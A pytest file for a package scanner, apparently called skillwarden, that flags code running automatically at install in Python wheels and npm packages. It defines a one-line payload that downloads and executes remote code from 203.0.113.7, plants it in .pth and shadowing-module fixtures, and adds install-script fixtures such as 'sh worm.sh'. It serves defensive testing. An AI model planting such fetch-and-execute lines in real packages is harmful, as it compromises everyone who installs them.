"""Code that runs by itself is found in the artefact, whatever the index says of it."""

from __future__ import annotations

import json
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest
import setuptools
from artefact_support import Desk, npm_of, tar_of, wheel_of

from skillwarden.domain.artefact_facts import ArtefactFacts
from skillwarden.domain.finding import Severity

WORM = "import urllib.request; exec(urllib.request.urlopen('http://203.0.113.7/x').read())"


def ids(facts: ArtefactFacts) -> list[str]:
    return [hook.id for hook in facts.hooks]


@pytest.mark.parametrize(
    ("path", "text", "expected"),
    [
        ("evil.pth", WORM, ["pth:evil.pth"]),
        ("evil.pth", f"# a comment\n./lib\n{WORM}\n", ["pth:evil.pth"]),
        ("evil.pth", "import\tos", ["pth:evil.pth"]),
        ("evil.pth", "\ufeffimport os", ["pth:evil.pth"]),
        ("evil.pth", b"\xef\xbb\xbfimport os  # \xe9", ["pth:evil.pth"]),
        ("evil.pth", b"# \xe9\nimport os", ["pth:evil.pth"]),
        ("evil.pth", "./lib\n#import os\n", []),
        ("tiny/evil.pth", WORM, []),
        ("tiny-1.0.data/purelib/evil.pth", WORM, ["pth:evil.pth"]),
        ("tiny-1.0.data/platlib/evil.pth", WORM, ["pth:evil.pth"]),
        ("sitecustomize.py", "", ["startup:sitecustomize"]),
        ("usercustomize/__init__.py", "", ["startup:usercustomize"]),
        ("tiny/sitecustomize.py", "", []),
        ("tiny-1.0.data/data/sitecustomize.py", "", ["startup:sitecustomize"]),
        ("tiny-1.0.data/data/lib/python/sitecustomize.py", "", ["startup:sitecustomize"]),
        ("tiny-1.0.data/data/evil.pth", WORM, ["pth:evil.pth"]),
        ("tiny-1.0.data/data/share/sitecustomize.py", "", []),
        ("tiny-1.0.data/scripts/sitecustomize.py", "", []),
        ("tiny-1.0.data/headers/sitecustomize.py", "", []),
        ("encodings/__init__.py", "", ["startup:encodings"]),
        ("encodings/__init__.cpython-312-x86_64-linux-gnu.so", "", ["startup:encodings"]),
        ("site.pyc", "", ["startup:site"]),
        ("site.cfg", "", []),
        ("typing.py", "", ["hides:typing"]),
        ("tiny-1.0.data/data/enum/__init__.py", "", ["hides:enum"]),
        ("_json.abi3.so", "", ["hides:_json"]),
        ("_sysconfigdata__linux_x86_64-linux-gnu.py", "", ["hides:_sysconfigdata__linux_x86_64-linux-gnu"]),
        ("compression/__init__.py", "", ["hides:compression"]),
        # Without an __init__ it is found after the standard library's.
        ("typing/helper.py", "", []),
        ("importlib_metadata/__init__.py", "", []),
        ("typing_extensions.py", "", []),
        ("backports/enum/__init__.py", "", []),
        ("tests/__init__.py", "", []),
        ("tiny-1.0.data/scripts/python", "#!python\n", ["command:python"]),
        ("tiny-1.0.data/data/bin/python", "#!python\n", ["command:python"]),
        ("tiny-1.0.data/scripts/tiny", "#!python\n", []),
        ("tiny-1.0.dist-info/entry_points.txt", "[console_scripts]\ngit = tiny:main\n", ["command:git"]),
        ("tiny-1.0.dist-info/entry_points.txt", "[console_scripts]\ntiny = tiny:main\n", []),
        ("tiny-1.0.dist-info/entry_points.txt", "[other]\ngit = tiny:main\n", []),
    ],
)
async def test_what_a_wheel_runs_by_itself(
    path: str, text: str | bytes, expected: list[str], desk: Desk
) -> None:
    assert ids(await desk.wheel(wheel_of({path: text}))) == expected


async def test_the_hook_shows_the_code(desk: Desk) -> None:
    [hook] = (await desk.wheel(wheel_of({"evil.pth": WORM}))).hooks
    assert hook.text == WORM


async def test_what_hides_a_module_is_looked_into(desk: Desk) -> None:
    [hook] = (await desk.wheel(wheel_of({"tiny-1.0.data/data/enum.py": WORM}))).hooks
    assert hook.text == "enum.py runs in place of the standard library's enum"
    assert hook.severity is Severity.HIGH


@pytest.fixture(scope="module")
def namespace_line(tmp_path_factory: pytest.TempPathFactory) -> str:
    """The line of a namespace package, from one that was made with it."""
    folder = tmp_path_factory.mktemp("wheels")
    command = [sys.executable, "-m", "pip", "download", "--quiet", "--no-deps", "--dest", str(folder)]
    subprocess.run([*command, "repoze.lru==0.7"], check=True, timeout=120)
    [path] = folder.iterdir()
    with zipfile.ZipFile(path) as wheel:
        [name] = [name for name in wheel.namelist() if name.endswith("-nspkg.pth")]
        return wheel.read(name).decode()


@pytest.mark.index
async def test_the_known_line_of_a_namespace_is_no_hook(namespace_line: str, desk: Desk) -> None:
    assert namespace_line.startswith("import ")
    assert ids(await desk.wheel(wheel_of({"a-nspkg.pth": namespace_line}))) == []
    other = namespace_line.replace("'repoze'", "'zope'")
    assert ids(await desk.wheel(wheel_of({"a-nspkg.pth": other}))) == []


@pytest.mark.index
@pytest.mark.parametrize("word", ["importlib.util", "importlib.machinery"])
async def test_a_known_line_with_another_module_in_it_is_a_hook(
    word: str, namespace_line: str, desk: Desk
) -> None:
    forged = namespace_line.replace(f"__import__('{word}')", "__import__('evil')")
    assert forged != namespace_line
    assert ids(await desk.wheel(wheel_of({"a-nspkg.pth": forged}))) == ["pth:a-nspkg.pth"]


async def test_setuptools_may_load_its_own_module_and_nobody_else(desk: Desk) -> None:
    own = Path(setuptools.__file__).parent.parent / "distutils-precedence.pth"
    wheel = wheel_of({"distutils-precedence.pth": own.read_text()})
    assert ids(await desk.wheel(wheel, "setuptools")) == []
    # Another package would bring its own module of that name.
    assert ids(await desk.wheel(wheel)) == ["pth:distutils-precedence.pth"]


async def test_pip_may_bring_its_own_command(desk: Desk) -> None:
    points = {"tiny-1.0.dist-info/entry_points.txt": "[console_scripts]\npip = pip:main\n"}
    assert ids(await desk.wheel(wheel_of(points), "pip")) == []
    assert ids(await desk.wheel(wheel_of(points))) == ["command:pip"]


@pytest.mark.parametrize(
    ("manifest", "files", "expected"),
    [
        ({"scripts": {"postinstall": "node worm.js"}}, {}, ["postinstall"]),
        ({"scripts": {"preinstall": "a", "install": "b", "postinstall": "c"}}, {}, 3),
        ({"scripts": {"prepare": "husky", "test": "jest", "postinstall": ""}}, {}, []),
        ({}, {"binding.gyp": "{}"}, ["node-gyp"]),
        ({"gypfile": False}, {"binding.gyp": "{}"}, []),
        ({"scripts": {"install": "node-gyp-build"}}, {"binding.gyp": "{}"}, ["install"]),
        ({}, {"src/binding.gyp": "{}"}, []),
        ({"scripts": "no object"}, {}, []),
    ],
)
async def test_what_an_npm_package_runs_at_install(
    manifest: dict[str, Any], files: dict[str, str], expected: list[str] | int, desk: Desk
) -> None:
    found = ids((await desk.npm(npm_of(manifest, files)))[""])
    assert found == expected if isinstance(expected, list) else len(found) == expected


async def test_bundled_packages_are_read_and_examples_are_not(desk: Desk) -> None:
    inner = json.dumps({"scripts": {"install": "sh worm.sh"}})
    bundled = ("node_modules/a", "node_modules/@s/b", "node_modules/a/node_modules/c")
    places = (*bundled, "examples", "node_modules")
    folders = await desk.npm(npm_of({}, {f"{place}/package.json": inner for place in places}))
    assert sorted(folders) == sorted(("", *bundled))
    assert [ids(folders[place]) for place in bundled] == [["install"]] * 3


async def test_the_last_of_two_manifests_counts_as_it_is_what_gets_installed(desk: Desk) -> None:
    quiet, loud = ({"name": "t"}, {"name": "t", "scripts": {"install": "x"}})
    for pair, expected in (((quiet, loud), ["install"]), ((loud, quiet), [])):
        data = tar_of(*(("package/package.json", json.dumps(item).encode()) for item in pair))
        assert ids((await desk.npm(data))[""]) == expected


@pytest.mark.parametrize("text", ["x" * 10_000, "a\u202eb\x00c\x1b[2J\nd"])
async def test_a_script_is_shown_on_one_harmless_line(text: str, desk: Desk) -> None:
    [hook] = (await desk.npm(npm_of({"scripts": {"install": text}})))[""].hooks
    assert len(hook.text) <= 201
    assert hook.text.isprintable()
